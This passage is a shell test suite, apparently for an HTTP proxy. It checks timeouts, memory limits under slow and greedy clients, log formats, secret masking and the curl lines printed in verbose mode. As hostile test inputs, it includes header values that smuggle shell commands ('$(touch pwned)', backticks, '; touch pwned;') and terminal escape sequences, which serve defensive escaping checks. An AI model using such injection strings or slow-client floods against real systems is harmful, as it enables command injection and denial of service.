test_a_server_s_interim_answers_do_not_put_off_its_time() {
	origin head 'times:200000:HTTP/1.1 103 Early Hints\r\n\r\n' hang
	may_say '^proxy: member .* is down: response-late$'
	start -r /=200 -r "/up=:$origin" --health /,interval=200ms,fall=1
	wait_for grep -q response-late "err.$n" || fail 'the check has no end'
	answers 200 "$url"
	origin head 'times:17:HTTP/1.1 100 Continue\r\n\r\n' 'send:HTTP/1.1 200 OK\r\n\r\n' mirror
	start -x "http://127.0.0.1:$origin"
	is "$(connect_code -x "$url" http://h.invalid/)" 502
}

test_half_heads_cost_what_they_hold_and_no_more_the_next_time() {
	need_proc
	sanitized && skip 'the sanitizers have memory of their own'
	start -r /=200:x
	before=$(memory "$pid") open=$(descriptors "$pid")
	fewer() { [ "$(descriptors "$pid")" -le "$open" ]; }
	long=$(head -c 50000 /dev/zero | tr '\0' a)
	for limit in 160 40; do
		helper hold "$port" 300 "GET / HTTP/1.1\r\nA: $long"
		answers 200 "$url"
		grown=$(($(memory "$pid") - before))
		[ $grown -lt $((300 * limit)) ] || fail "memory grew by $grown KiB"
		kill "$helper"
		wait_for fewer || fail 'connections are kept'
		before=$((before + grown))
	done
}

test_slow_and_greedy_clients_of_every_kind_disturb_nobody() {
	need_proc
	head -c 1024 /dev/zero >1k
	head -c 1048576 /dev/zero >1m
	start -r /1k=file:1k -r /1m=file:1m -r /post=200:ok
	start -r ":$port" -t head=2
	get -o body "$url/1k"
	before=$(memory "$pid") open=$(descriptors "$pid")
	helper greedy "$port" 300
	is "$("$peer" load "$port" 20 3000 'GET /1k HTTP/1.1\r\nHost: h\r\n\r\n')" '200:3000 broken:0'
	wait_for lines_in 4 "said.$m"
	is "$("$peer" load "$port" 20 500 'POST /post HTTP/1.1\r\nHost: h\r\nContent-Length: 10000\r\n\r\n' 10000)" '200:500 broken:0'
	grew_less_than "$((300 * 40))"
	kill "$helper"
	fewer() { [ "$(descriptors "$pid")" -le $((open + 24)) ]; }
	wait_for fewer || fail "$(descriptors "$pid") descriptors, $open before"
}

test_a_server_s_head_that_trickles_is_504_though_each_octet_comes_soon() {
	origin head 'trickle:60:HTTP/1.1 200 OK\r\nContent-Length: 0\r\nA: bbbbbbbbbbbbbbbbbb\r\n\r\n' rest
	start -r ":$origin" -t response=500ms
	is "$(code -m 9 "$url")" 504
}

test_what_a_stored_head_names_costs_little() {
	need_proc
	sanitized && skip 'it would be slow'
	names=$(awk 'BEGIN { while (i++ < 15000) printf "ab," }')
	origin head "send:HTTP/1.1 200 OK\r\nCache-Control: max-age=100, no-cache=\"$names\"\r\nContent-Length: 2\r\n" 'times:110:A: b\r\n' 'send:\r\nok' again
	start -r ":$origin" -C store
	get "$url/[1-50]" >got
	before=$(ticks "$pid")
	get "$url/[1-50]" >got
	used=$(($(ticks "$pid") - before))
	[ $used -lt 60 ] || fail "50 answers took $used hundredths of a second"
}

test_chunks_of_one_octet_pass_in_any_number() {
	count=20000
	origin head "read:\r\n0\r\n\r\n" 'send:HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n' "times:$count:1\r\nz\r\n" 'send:0\r\n\r\n'
	start -r ":$origin"
	talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n' "times:$count:1\r\nz\r\n" 'send:0\r\n\r\n' rest >got
	like "$(head -n 1 got)" '^HTTP/1\.1 200 '
	is "$(tr -dc z <"got$m.1" | wc -c | tr -d ' ')" $count 'octets of content sent'
	is "$(tr -dc z <got | wc -c | tr -d ' ')" $count 'octets of content answered'
}

# ---- logs ----

logged() { wait_for lines_in "${1:-1}" log || fail "no line in the log"; }

test_the_combined_log_is_the_usual_one() {
	start_logged --log-format combined -r /=200:hello -u bob:secret
	answers 401 "$url/first"
	is "$(code -u bob:secret -A 'an agent' -e http://from.example/ "$url/a?b=c")" 200
	logged 2
	like "$(sed -n 1p log)" '^127\.0\.0\.1 - - \[[0-3][0-9]/[A-Z][a-z][a-z]/20[0-9][0-9]:[0-2][0-9]:[0-5][0-9]:[0-6][0-9] [+-][0-9]{4}\] "GET /first HTTP/1\.1" 401 [0-9]+ "-" "curl/[^"]*"$'
	like "$(sed -n 2p log)" '^127\.0\.0\.1 - bob \[[^]]*\] "GET /a\?b=c HTTP/1\.1" 200 5 "http://from\.example/" "an agent"$'
}

test_the_log_goes_to_stderr_in_the_combined_form_unless_told_otherwise() {
	may_say '^127\.0\.0\.1 - - \[.*\] "GET /x HTTP/1\.1" 200 1 "-" "curl'
	start_as -l 0 -r /=200:x
	answers 200 "$url/x"
	wait_for lines_in 1 "err.$n" || fail 'no line on stderr'
}

test_q_logs_nothing() {
	start -r /=200:x
	answers 200 "$url/x"
	stop
	is "$(cat "err.$n")" ''
}

test_the_human_log_tells_upstream_timings_and_reason() {
	dead=1
	start -r /=200:x
	inner=$port
	start_logged --log-format human -r "/up=:$inner" -r "/dead=:$dead" -d /denied
	answers 200 "$url/up/x"
	answers 502 "$url/dead"
	answers 403 "$url/denied"
	logged 3
	like "$(sed -n 1p log)" "^[0-2][0-9]:[0-5][0-9]:[0-6][0-9] 127\.0\.0\.1 200 GET /up/x 1 [0-9.]+m?s to=127\.0\.0\.1:$inner( |\$)"
	like "$(sed -n 1p log)" ' connect=[0-9.]+m?s answer=[0-9.]+m?s'
	like "$(sed -n 2p log)" ' 502 GET /dead [0-9]+ [0-9.]+m?s .*why=connect-failed'
	like "$(sed -n 3p log)" ' 403 GET /denied [0-9]+ [0-9.]+m?s .*why=denied'
}

test_every_reason_in_the_log_is_in_the_manual() {
	from_tree proxy.1
	dead=1
	origin head hang
	start_logged --log-format human -r "/dead=:$dead" -r "/late=:$origin" -r h.example=200 -t response=300ms,head=300ms \
		-d /denied -u bob:x --max body=1
	code "$url" >codes
	for path in dead late denied other; do code -u bob:x "$url/$path" >>codes; done
	code -u bob:x -d 12 "$url/dead" >>codes
	code -u bob:x -H 'Host: h.example' "$url/a%00" >>codes
	code -u bob:x -H 'Host: h h' "$url/" >>codes
	talk "$port" 'send:GET' rest >got
	wait_for lines_in 9 log
	grep -Eo 'why=[^ ]*' log | sort -u >reasons
	[ "$(wc -l <reasons)" -ge 6 ] || fail "few reasons: $(cat log)"
	while IFS= read -r reason; do
		grep -q "^\.It Li ${reason#why=}\$\|^\.It Li ${reason#why=} " "$tree/proxy.1" || fail "the manual does not have $reason"
	done <reasons
}

test_every_reason_of_the_program_is_in_the_manual() {
	from_tree proxy.c
	from_tree proxy.1
	sed -n 's/^ *\[WHY_[A-Z_]*\] = { [0-9]*, "\([a-z-]*\)".*/\1/p' "$tree/proxy.c" >reasons
	[ "$(wc -l <reasons)" -gt 40 ] || fail 'they are not found'
	while read -r reason; do
		[ "$reason" = - ] || grep -Eq "^\.It Li $reason( |\$)" "$tree/proxy.1" || { echo "the manual does not have $reason"; bad=1; }
	done <reasons
	[ -z "${bad-}" ] || exit 1
}

test_every_word_of_the_cache_is_in_the_manual() {
	from_tree proxy.1
	awk '/^\.Sh /{ on = /^\.Sh CACHE$/ } on && /^\.It Li /{ print $3 }' "$tree/proxy.1" >in_cache
	awk '/^\.It Li cache=$/ { on = 1 } /^\.It Li rule=$/ { on = 0 } on && /^\.It Li /{ print $3 }' "$tree/proxy.1" >in_log
	while IFS='|' read -r path asks fields; do  # the path, what curl is told, what the response has
		origin head "send:HTTP/1.1 200 OK\\r\\n${fields}Content-Length: 2\\r\\n\\r\\nok" again
		rm -f log
		start_logged --log-format '%{cache}x' -r ":$origin" -C "store.$m"
		eval "set -- $asks"
		for i in 1 2; do
			get -H 'Host: h' -D head -o body "$@" "$url$path"
			get -H 'Host: h' -D head.2 -o body "$url$path"
			cat head head.2 >>heads
		done
		wait_for lines_in 4 log || fail "lines: $(cat log)"
		cat log >>logged
		stop
	done <<-'END'
	/hit||Cache-Control: max-age=100\r\n
	/v|-H 'X-A: 1'|Cache-Control: max-age=100\r\nVary: X-A\r\n
	/stale||Cache-Control: max-age=100\r\nAge: 200\r\n
	/asked|-H 'Cache-Control: no-cache'|Cache-Control: max-age=100\r\n
	/silent|-H 'Cache-Control: no-store'|Cache-Control: max-age=100\r\n
	/post|-d x|Cache-Control: max-age=100\r\n
	/match|-H 'If-Match: "a"'|Cache-Control: max-age=100\r\n
	/login|-u a:b|Cache-Control: max-age=100\r\n
	/no-store||Cache-Control: no-store\r\n
	/private||Cache-Control: private\r\n
	/nothing||
	/cookie||Last-Modified: Thu, 01 Jan 1998 00:00:00 GMT\r\nSet-Cookie: a=b\r\n
	/any||Cache-Control: max-age=100\r\nVary: *\r\n
	END
	tr -d '\r' <heads | sed -n 's/^Cache-Status: proxy; //p' | tr ';' '\n' | sed 's/^ //' | sort -u >said
	sed -n 's/^fwd=//p; s/^detail=//p; s/^\([a-z-]*\)=.*/\1=/p; /=/!p' said | sort -u >words
	[ "$(wc -l <words)" -ge 15 ] || fail "few words: $(cat words)"
	while read -r word; do grep -qFx -e "$word" in_cache || fail "the manual does not have $word of Cache-Status"; done <words
	sort -u logged >words
	[ "$(wc -l <words)" -ge 3 ] || fail "few words in the log: $(cat words)"
	while read -r word; do grep -qFx -e "$word" in_log || fail "the manual does not have $word of the log"; done <words
}

test_forward_requests_and_tunnels_are_logged() {
	start -r /=200:x
	inner=$port
	start_logged --log-format combined
	is "$(code -x "$url" "http://127.0.0.1:$inner/x")" 200
	is "$(code -p -x "$url" "http://127.0.0.1:$inner/y")" 200
	logged 2
	has "$(sed -n 1p log)" "\"GET http://127.0.0.1:$inner/x HTTP/1.1\" 200 1"
	has "$(sed -n 2p log)" "\"CONNECT 127.0.0.1:$inner HTTP/1.1\" 200"
}

test_octets_from_the_network_are_escaped_in_every_log() {
	for format in combined human; do
		rm -f log
		start_logged --log-format $format -r /=200
		talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: a"b\\c\xff\td\r\nReferer: \x9b31m\r\nConnection: close\r\n\r\n' rest >got
		talk "$port" 'send:GET /\x1b[2J HTTP/1.1\r\nHost: h\r\n\r\n' rest >got
		talk "$port" 'send:G\x07T / HTTP/1.1\r\nHost: h\r\n\r\n' rest >got
		talk "$port" 'send:\x16\x03\x01\x02\x00\x01' shut rest >got
		answers 200 "$url/last"
		wait_for grep -q /last log || fail 'nothing is logged'
		grep -n '[^ -~]' log && fail "raw octets in the $format log"
		[ $format = human ] || has "$(sed -n 1p log)" '"a\"b\\c\xff\x09d"'
		stop
	done
}

test_hup_opens_the_log_again() {
	start_logged -r /=200:x
	answers 200 "$url/one"
	logged
	mv log log.old
	kill -HUP "$pid"
	wait_for test -f log || fail 'no new log'
	answers 200 "$url/two"
	logged
	has "$(cat log)" /two
	hasnt "$(cat log.old)" /two
}

test_the_log_is_appended_to() {
	echo first >log
	start_logged -r /=200:x
	answers 200 "$url"
	logged 2
	is "$(head -n 1 log)" first
}

test_a_log_that_cannot_be_opened_is_status_1() {
	try -l 0 -o /nonexistent/log
	is "$status" 1
	like "$err" '/nonexistent/log: No such file'
}

test_v_shows_heads_and_masks_secrets() {
	start -r /=200:x
	inner=$port
	start -v -r ":$inner" -u bob:secret
	may_say '.'
	is "$(code -u bob:secret -H 'Cookie: sid=geheim' -H 'X-Shown: visible' "$url/path")" 200
	wait_for grep -q 'HTTP/1.1 200' "err.$n" || fail "no response head: $(cat "err.$n")"
	shown=$(cat "err.$n")
	has "$shown" 'GET /path HTTP/1.1'
	has "$shown" 'X-Shown: visible'
	hasnt "$shown" geheim
	hasnt "$shown" Ym9iOnNlY3JldA==
}

test_v_escapes_what_peers_send() {
	origin head 'send:HTTP/1.1 200 OK\r\nX-Odd: \x9b\xff\r\nContent-Length: 0\r\n\r\n' again
	start -v -r ":$origin"
	may_say '.'
	answers 200 "$url"
	wait_for grep -q X-Odd "err.$n"
	grep -n '[^[:print:]	]' "err.$n" && fail 'raw octets on stderr'
	:
}

test_the_json_log_is_an_object_a_line_with_null_for_what_there_is_not() {
	need jq
	start -r /=200:hello
	inner=$port
	start_logged --log-format json -r "/up=:$inner" -r /=200:canned -d /denied
	is "$(code -A 'an "agent" \ of ours' -e http://from.example/ -H 'Host: h.example' "$url/up/a?b=c")" 200
	answers 403 "$url/denied"
	is "$(code -A '' "$url/canned")" 200
	logged 3
	is "$(wc -l <log | tr -d ' ')" 3 'number of lines'
	for key in time client user method target version host status octets why upstream tries \
		name_ms connect_ms first_ms total_ms referer agent rule id; do
		jq -s -e --arg key $key 'all(has($key))' log >/dev/null || fail "no $key in $(cat log)"
	done
	for i in 1 2 3; do sed -n ${i}p log >line.$i; done
	is "$(jq -r '"\(.client) \(.user) \(.method) \(.target) \(.host) \(.status) \(.octets) \(.upstream) \(.tries) \(.why) \(.rule) \(.id)"' line.1)" \
		"127.0.0.1 null GET /up/a?b=c h.example 200 5 127.0.0.1:$inner 1 null null null"
	is "$(jq -r .agent line.1)" 'an "agent" \ of ours'
	is "$(jq -r .referer line.1)" http://from.example/
	like "$(jq -r .version line.1)" '^(HTTP/)?1\.1$'
	like "$(jq -r .time line.1)" '^20[0-9]{2}-[01][0-9]-[0-3][0-9]T[0-2][0-9]:[0-5][0-9]:[0-6][0-9]\.[0-9]{3}(Z|[+-][0-2][0-9]:[0-5][0-9])$'
	jq -e '[.status, .octets, .tries, .connect_ms, .first_ms, .total_ms] | all(type == "number")' line.1 >/dev/null ||
		fail "numbers are not numbers: $(cat line.1)"
	jq -e '.name_ms == null and .total_ms >= .first_ms and .total_ms >= .connect_ms' line.1 >/dev/null || fail "the timings of $(cat line.1)"
	is "$(jq -r '"\(.status) \(.why) \(.upstream) \(.connect_ms) \(.first_ms)"' line.2)" '403 denied null null null'
	has "$(jq -r .rule line.2)" /denied
	is "$(jq -r '"\(.upstream) \(.name_ms) \(.connect_ms) \(.first_ms) \(.referer) \(.agent) \(.why) \(.rule)"' line.3)" \
		'null null null null null null null null'
}

test_the_json_log_is_json_whatever_the_network_sends() {
	need jq
	start_logged --log-format json -r /=200
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: a"b\\c\xff\td\r\nReferer: \x9b31m\xe2\x80\xa8\r\nConnection: close\r\n\r\n' rest >got
	talk "$port" 'send:GET /\x1b[2J HTTP/1.1\r\nHost: h\r\n\r\n' rest >got
	talk "$port" 'send:G\x07T / HTTP/1.1\r\nHost: "\\\r\n\r\n' rest >got
	talk "$port" 'send:\x16\x03\x01\x02\x00\x01' shut rest >got
	answers 200 "$url/last"
	wait_for grep -q /last log || fail 'nothing is logged'
	jq -s . log >parsed || fail "it is no JSON: $(cat log)"
	grep -n '[^ -~]' log && fail 'raw octets in the log'
	is "$(jq -s 'map(select(.status == 400 and .why != null)) | length >= 2' log)" true 'that malformed requests are logged'
	long=$(head -c 30000 /dev/zero | tr '\0' '\\')
	printf 'Referer: %s\n' "$long" >fields
	is "$(code -H @fields -A "$long" "$url/long")" 200
	wait_for grep -q /long log || fail 'a long line is not logged'
	jq -s -e 'last | .target == "/long" and .status == 200 and has("total_ms")' log >/dev/null || fail 'a long line is no JSON'
}

test_timings_of_the_json_log_hold_when_things_go_otherwise() {
	need jq
	dead=1
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nea' read:content 'send:rly' rest
	early=$origin
	origin head nap:50 reset
	start_logged --log-format json -t pool=1s -r "/early=:$early" -r "/reset=:$origin" -r "/reset=:$dead" -r "/name=http://localhost:$early"
	talk "$port" 'send:POST /early HTTP/1.1\r\nHost: h\r\nContent-Length: 14\r\n\r\nsome ' 'read:\r\n\r\nea' nap:50 'send:  content' read:rly >got
	is "$(code -d content "$url/name")" 200
	for i in 1 2 3; do answers 502 "$url/reset"; done
	logged 5
	jq -s . log >parsed || fail "it is no JSON: $(cat log)"
	jq -s -e 'all([.name_ms, .connect_ms, .first_ms] | all(. == null or . >= 0)) and all(.total_ms >= 0)' log >/dev/null || fail "timings below nothing: $(cat log)"
	jq -s -e '.[1].name_ms != null or .[1].connect_ms != null' log >/dev/null || fail "no timings: $(sed -n 2p log)"
	jq -s -e '.[2:] | all(.tries >= 1 and .why != null)' log >/dev/null || fail "tries and why: $(cat log)"
}

test_the_log_follows_a_format_of_apache_s_directives() {
	start -r /=200:hello
	inner=$port
	while read -r format want; do
		start_logged --log-format "$format" -r ":$inner" -u bob:secret
		is "$(code -u bob:secret -A agent -e http://from/ -H 'X-Name: its value' "$url/a/b?c=d")" 200
		stop
		(like "$(cat log)" "^$(printf %s "$want" | sed "s/@port/$port/; s/@inner/$inner/")\$" "the line of $format") || bad=1
		rm log
	done <<-'END'
	%h 127\.0\.0\.1
	%a 127\.0\.0\.1
	%{c}a 127\.0\.0\.1
	%A 127\.0\.0\.1
	%l -
	%u bob
	%t \[[0-3][0-9]/[A-Z][a-z][a-z]/20[0-9][0-9]:[0-2][0-9]:[0-5][0-9]:[0-6][0-9] [+-][0-9]{4}\]
	%{%Y-%m-%d}t 20[0-9][0-9]-[01][0-9]-[0-3][0-9]
	%{sec}t [1-9][0-9]{9}
	%{msec}t [1-9][0-9]{12}
	%r GET /a/b\?c=d HTTP/1\.1
	%s 200
	%>s 200
	%b 5
	%B 5
	%D [1-9][0-9]*
	%T [0-9]
	%{s}T [0-9]
	%{ms}T [0-9]{1,4}
	%{us}T [1-9][0-9]*
	%m GET
	%U /a/b
	%q \?c=d
	%H HTTP/1\.1
	%v 127\.0\.0\.1
	%V 127\.0\.0\.1
	%p @port
	%P [1-9][0-9]*
	%{X-Name}i its value
	%{x-name}i its value
	%{X-None}i -
	%{Referer}i http://from/
	%{User-Agent}i agent
	%{Content-Type}o text/plain.*
	%{X-None}o -
	%k 0
	%X \+
	%L -
	%% %
	%{upstream}x 127\.0\.0\.1:@inner
	%{tries}x 1
	%{name}x -
	%{connect}x [0-9]+(\.[0-9]+)?
	%{first}x [0-9]+(\.[0-9]+)?
	%{total}x [0-9]+(\.[0-9]+)?
	%{why}x -
	%{rule}x -
	"%m"[%>s]%%:%B;%U "GET"\[200\]%:5;/a/b
	END
	[ -z "${bad-}" ] || exit 1
}

test_a_log_format_may_have_tabs_and_spell_out_the_combined_one() {
	start_logged --log-format '%m\t%>s\t%U' -r /=200
	answers 200 "$url/x"
	logged
	is "$(cat log)" "$(printf 'GET\t200\t/x')"
	start_as -l 0 -o log.2 --log-format '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"' -r /=204
	is "$(code -A agent "$url/a?b")" 204
	wait_for lines_in 1 log.2
	like "$(cat log.2)" '^127\.0\.0\.1 - - \[[^]]*\] "GET /a\?b HTTP/1\.1" 204 - "-" "agent"$'
}

test_a_log_format_tells_why_a_request_failed() {
	dead=1
	origin head hang
	start_logged --log-format '%>s %U%q %B %{why}x %{upstream}x %{rule}x' -r "/dead=:$dead" -r "/late=:$origin" \
		-t response=300ms -d /denied -R X:
	answers 403 "$url/denied"
	answers 502 "$url/dead"
	answers 504 "$url/late"
	answers 404 "$url/none"
	talk "$port" 'send:nonsense\r\n\r\n' rest >got
	logged 5
	like "$(sed -n 1p log)" '^403 /denied [1-9][0-9]* denied - .*/denied.*$'
	like "$(sed -n 2p log)" '^502 /dead [1-9][0-9]* connect-failed .* -$'
	like "$(sed -n 3p log)" "^504 /late [1-9][0-9]* response-late 127\.0\.0\.1:$origin -\$"
	like "$(sed -n 4p log)" '^404 /none [1-9][0-9]* no-route - -$'
	like "$(sed -n 5p log)" '^400 .* bad-request-line - -$'
}

test_a_log_format_counts_octets_and_requests_of_a_connection() {
	start_logged --log-format '%k %I %O %X' -r /=200:hello
	first='GET / HTTP/1.1\r\nHost: h\r\n\r\n' second='POST / HTTP/1.1\r\nHost: h\r\nConnection: close\r\nContent-Length: 7\r\n\r\ncontent'
	talk "$port" "send:$first" 'read:\r\n\r\nhello' "send:$second" rest >got
	logged 2
	at=$(grep -abo hello got | sed -n '1s/:.*//p')
	whole=$(wc -c <got)
	is "$(sed -n 1p log)" "0 $(printf %b "$first" | wc -c | tr -d ' ') $((at + 5)) +"
	is "$(sed -n 2p log)" "1 $(printf %b "$second" | wc -c | tr -d ' ') $((whole - at - 5)) -"
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhalf' hang
	start_as -l 0 -o gone --log-format '%X %{why}x' -r ":$origin"
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\n\r\n' read:half reset >got
	wait_for lines_in 1 gone || fail 'nothing is logged'
	is "$(cat gone)" 'X client-gone'
}

test_octets_from_the_network_are_escaped_in_a_log_format() {
	start_logged --log-format '"%r" "%{User-Agent}i" %U%q %{Host}i %{X-Odd}o' -r /=200 -R 'X-Odd: a"b'
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: a"b\\c\xff\td\r\nConnection: close\r\n\r\n' rest >got
	talk "$port" 'send:GET /\x1b[2J HTTP/1.1\r\nHost: h\r\n\r\n' rest >got
	answers 200 "$url/last"
	wait_for grep -q /last log || fail 'nothing is logged'
	grep -n '[^ -~]' log && fail 'raw octets in the log'
	is "$(sed -n 1p log)" '"GET / HTTP/1.1" "a\"b\\c\xff\x09d" / h a\"b'
}

test_secrets_are_masked_in_every_log_unless_told_otherwise() {
	format='%{Cookie}i %{Authorization}i %{Set-Cookie}o'
	start_logged --log-format "$format" -r /=200 -R 'Set-Cookie: sid=geheim'
	is "$(code -u eve:geheim -b sid=geheim "$url")" 200
	logged
	hasnt "$(cat log)" geheim 'the log'
	hasnt "$(cat log)" ZXZlOmdlaGVpbQ== 'the log'
	start_as -l 0 -o shown --log-format "$format" -r /=200 -R 'Set-Cookie: sid=geheim' --show-secrets
	is "$(code -u eve:geheim -b sid=geheim "$url")" 200
	wait_for lines_in 1 shown || fail 'nothing is logged'
	is "$(cat shown)" 'sid=geheim Basic ZXZlOmdlaGVpbQ== sid=geheim'
	start -v --show-secrets -r /=200 -R 'Set-Cookie: sid=geheim'
	may_say '.'
	is "$(code -u eve:geheim -b sid=geheim "$url")" 200
	wait_for grep -q 'Set-Cookie: sid=geheim' "err.$n" || fail "no Set-Cookie: $(cat "err.$n")"
	has "$(cat "err.$n")" 'Cookie: sid=geheim'
	has "$(cat "err.$n")" 'Authorization: Basic ZXZlOmdlaGVpbQ=='
}

test_goaccess_reads_the_combined_log() {
	need goaccess jq
	start_logged --log-format combined -r /=200:x -d /denied
	for path in one two denied; do code "$url/$path" >codes; done
	talk "$port" 'send:GET /four HTTP/1.1\r\nHost: h\r\nUser-Agent: a"b\\c\xff\td\r\nConnection: close\r\n\r\n' rest >got
	logged 4
	goaccess log --log-format=COMBINED --no-global-config -o report.json >complaints 2>&1 || fail "$(cat complaints)"
	is "$(jq '.general | "\(.valid_requests) \(.failed_requests)"' report.json)" '"4 0"' 'what goaccess finds valid and failed'
}

repeated() {  # run the first curl line that the proxy showed: it must make the same request again
	wait_for grep -q '^curl ' "err.$n" || fail "no curl line: $(cat "err.$n")"
	grep '^curl ' "err.$n" | sed -n 1p >line
	jq -c '[.method, .target, .content, (.fields | sort)]' body >first
	sh ./line >body 2>complaints </dev/null || fail "this fails: $(cat line complaints)"
	jq -c '[.method, .target, .content, (.fields | sort)]' body >second
	diff first second >difference || fail "what came first (<) and from (>) $(cat line): $(cat difference)"
}

test_v_gives_each_request_as_a_curl_line_that_repeats_it() {
	need jq
	start -v -r /=echo
	may_say '.'
	is "$(code "$url/plain")" 200
	repeated
	hasnt "$(cat line)" ' -X' 'the line of a plain GET'
	hasnt "$(cat line)" 'Host:' 'the line of a plain GET'
	for request in '-X DELETE' '-X OPTIONS' '-X PUT -d content' '-d content' '-X GET -d content' '-X M-SEARCH -H Accept:' \
		-H\ User-Agent: '-H X-Twice:1 -H X-Twice:2' '-H X-Empty;' '-H Host:other.example:81' '-H Transfer-Encoding:chunked -d content' '-d content -H Content-Type:' '-d content -H Content-Type:text/x-mine'; do
		start -v -r /=echo
		is "$(code $request "$url/a?b=c")" 200 "status of curl $request"
		repeated
		stop
	done
	start -v -r /=echo
	is "$(code -g -X DELETE -A "it's" -H "X-Odd: a\"b\\c \$(touch pwned) \`touch pwned\` '; touch pwned; '" -H 'X-Empty;' \
		-H 'X-At: @line' -H Accept: "$url/a'b;c?d=\$e&f=(g)*[]{h}")" 200
	repeated
	[ ! -e pwned ] || fail "the line runs what a peer sent: $(cat line)"
	start -v -r /=200
	talk "$port" 'send:HEAD /x HTTP/1.1\r\nHost: h\r\nX-Odd: a\tb\x9b2J\xff\r\nConnection: close\r\n\r\n' rest >got
	stop
	like "$(grep '^curl ' "err.$n")" ' (-I|--head)( |$)' 'the line of a HEAD'
	grep -n '[^ -~]' "err.$n" && fail 'raw octets on stderr'
	:
}

test_v_gives_the_proxy_in_the_curl_line_of_a_forward_request() {
	need jq
	start -v -f -r echo.example=echo
	may_say '.'
	is "$(code -x "$url" -d content http://echo.example/a?b)" 200
	repeated
	has "$(cat line)" http://echo.example/a?b 'the line'
	like "$(cat line)" " (-x|--proxy) '?$url" 'the line'
	forward -v
	is "$(code -p -x "$url" "http://127.0.0.1:$inner/tunnelled")" 200
	is "$(code -x "$url" "http://127.0.0.1:$inner/plain")" 200
	stop
	is "$(grep -c '^curl ' "err.$n")" 1 'number of curl lines: CONNECT has none; it'
}

test_v_gives_the_content_in_the_curl_line() {
	need jq
	may_say '.'
	for content in 'some words' "@it's \"all\" & 100% \$HOME \`x\`" '{"a": [1, 2]}' 'one
two
'; do
		printf %s "$content" >content
		start -v -r /=echo
		is "$(code -X PUT -H 'Content-Type: text/x-mine' --data-binary @content "$url/a")" 200
		curl_line='^(printf .*)?curl '
		wait_for grep -Eq "$curl_line" "err.$n" || fail "no curl line, or in more than one: $(cat "err.$n")"
		grep -E "$curl_line" "err.$n" >line
		jq -c '[.method, .target, .content, (.fields | sort)]' body >first
		sh ./line >body 2>complaints </dev/null || fail "this fails: $(cat line complaints)"
		jq -c '[.method, .target, .content, (.fields | sort)]' body >second
		cmp -s first second || fail "what came first ($(cat first)) and ($(cat second)) from $(cat line)"
		stop
	done
	start -v -r /=200
	printf 'a\0b\377' >content
	is "$(code --data-binary @content "$url/octets")" 200
	head -c 70000 /dev/zero | tr '\0' x >content
	is "$(code --data-binary @content "$url/much")" 200
	stop
	for path in octets much; do
		like "$(grep "^curl .*/$path" "err.$n")" "--data-binary '?@-'?( |\$)" "the line of /$path"
		hasnt "$(grep "^curl .*/$path" "err.$n")" xxxxxx 'that line'
	done
}

test_the_curl_line_masks_secrets_unless_told_otherwise() {
	may_say '.'
	start -v -r /=200
	is "$(code -u eve:geheim -b sid=geheim "$url/masked")" 200
	stop
	grep -q '^curl ' "err.$n" || fail "no curl line: $(cat "err.$n")"
	hasnt "$(cat "err.$n")" geheim
	hasnt "$(cat "err.$n")" ZXZlOmdlaGVpbQ==
	start -v --show-secrets -r /=200
	is "$(code -u eve:geheim -b sid=geheim "$url/shown")" 200
	stop
	has "$(grep '^curl ' "err.$n")" 'sid=geheim' 'the line'
	has "$(grep '^curl ' "err.$n")" 'Basic ZXZlOmdlaGVpbQ==' 'the line'
}

test_vv_shows_text_as_it_is_and_json_pretty() {
	need jq
	origin head 'read:some words' 'send:HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 31\r\n\r\n{"a":{"b":[1,"two"]},"c":"\\"{"}' again
	start -vv -r ":$origin"
	may_say '.'
	is "$(code -d 'some words' "$url")" 200
	is "$(cat body)" '{"a":{"b":[1,"two"]},"c":"\"{"}' 'what the client gets'
	wait_for grep -q '^}' "err.$n" || fail "no JSON in lines: $(cat "err.$n")"
	sed -n '/^{$/,/^}$/p' "err.$n" >shown
	is "$(jq -c . shown)" "$(cat body)" 'what is shown, put together again'
	grep -Fxq '  "a": {' shown || fail "no JSON with one member a line: $(cat shown)"
	grep -Eq '^    "b": \[' shown || fail "no JSON indented by 2: $(cat shown)"
	grep -Fxq 'some words' "err.$n" || fail "the content of the request is not shown: $(cat "err.$n")"
	hasnt "$(grep -v '^curl ' "err.$n")" '{"a":{"b"'
	start -v -r /=200:unseen
	is "$(code -d 'unseen as well' "$url")" 200
	wait_for grep -q '^curl ' "err.$n"
	hasnt "$(grep -v '^curl ' "err.$n")" unseen 'the output of -v'
}

test_vv_shows_text_line_by_line_and_says_what_it_does_not_show() {
	may_say '^'
	printf 'one\n\ttwo\n\nfour' >lines
	printf 'a\0b\377c' >octets.bin
	head -c 70000 /dev/zero | tr '\0' x | fold -w 99 >much
	printf '{"a":[1,}' >broken
	start -vv -r '200:@lines' -r /octets=file:octets.bin -r /much=200:@much -r /broken=200:@broken
	answers 200 "$url/lines"
	answers 200 "$url/octets"
	answers 200 "$url/much"
	answers 200 "$url/broken"
	stop
	grep -Fxq "$(printf '\ttwo')" "err.$n" || fail "the text does not stand as it is: $(head -n 40 "err.$n")"
	grep -Fxq four "err.$n" || fail "no last line: $(head -n 40 "err.$n")"
	grep -Fxq '(5 octets, not text)' "err.$n" || fail "what is not text: $(head -n 40 "err.$n")"
	all=$(wc -c <much)
	grep -Fxq "($((all - 65536)) octets more)" "err.$n" || fail "the rest of much content: $(tail -n 20 "err.$n")"
	grep -Fxq '{"a":[1,}' "err.$n" || fail "JSON that is none: $(tail -n 20 "err.$n")"
}

test_vvv_shows_content_in_hex() {
	start -vvv -r /=200:hello
	may_say '.'
	is "$(code -d 'a world of 20 octets' "$url")" 200
	wait_for grep -Eq '^00000000  68 65 6c 6c 6f +\|hello\|$' "err.$n" ||
		fail "no content of the answer: $(cat "err.$n")"
	grep -Eq '^00000000  61 20 77 6f 72 6c 64 20 +6f 66 20 32 30 20 6f 63 +\|a world of 20 oc\|$' "err.$n" || fail "no content of the request: $(cat "err.$n")"
